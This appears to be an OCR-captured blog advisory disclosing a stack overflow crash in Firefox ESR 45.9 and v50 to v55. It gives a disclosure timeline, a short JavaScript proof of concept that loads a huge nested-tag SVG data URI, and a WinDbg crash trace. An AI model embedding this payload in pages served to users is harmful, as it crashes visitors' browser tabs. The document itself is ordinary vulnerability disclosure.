Unpatched Mozilla Firefox ESR 45.9 and v50 - v55 Stack Overflow DoS Vulnerability in mozilla::dom::Element::UnbindFromTree


Unpatched Mozilla Firefox v50 - v55 Stack Overflow DoS Vulnerability in mozilla::dom::Element::UnbindFromTree




Reported to Mozilla: 2016-12-06
Mozilla made public: 2016-12-15
Declined bounty: 2017-01-30
Advisory released: 2017-05-16

Technical Details:

A stack overflow DoS vulnerability affecting Firefox versions ESR 45.9 and v50 through v55 was discovered by Geeknik Labs. This flaw can be triggered by simply visiting a website with the PoC code embedded in it and requires no further user interaction nor does it require any special privileges. Successful exploitation results in the browser tab crashing.

Security Level:


CVSS Score:


Proof of Concept:

function done() {

var x = '';
for (i=0; i<500000; ++i)
  x += '<a>';
var uri = 'data:image/svg+xml,' + x;
var i = new Image();
i.src = uri;

Debug Information:

(ff4.1108): Stack overflow - code c00000fd (first chance)
First chance exceptions are reported before any exception handling.
This exception may be expected and handled.
eax=5e3be520 ebx=00000000 ecx=256fab00 edx=00000001 esi=00000001 edi=256faab0
eip=5c718053 esp=00802ff4 ebp=00000000 iopl=0 nv up ei pl nz na po nc
cs=0023  ss=002b  ds=002b  es=002b  fs=0053  gs=002b efl=00010202
5c718053 53  pushebxxul!nsINode::doRemoveChildAt+6a [c:\builds\moz2_slave\m-rel-w32-00000000000000000000\build\src\dom\base\nsinode.cpp @ 1910]
5c805677 8d4df8  lea ecx,[ebp-8]

BUCKET_ID:STACK_OVERFLOW_xul!nsINode::doRemoveChildAt+6a


Brian Carpenter, Geeknik Labs, https://twitter.com/geeknik

As always, you can support me on Patreon, via PayPal, Bitcoin 1HnyFwSJDjWFexD7oRr4HGTFwD8N6NsrfX or Ethereum 0xee9cBCB8DDC4f25832AD7FC02FADB981b1212D04.

Geeknik Labs

Also on this blog

SHARE:  Email · Facebook · Google · Twitter ·Tumblr · Kindle
SUBSCRIBE:  Receive an email onnew posts from Geeknik Labs• Notify me upon newcomments

☺ Got it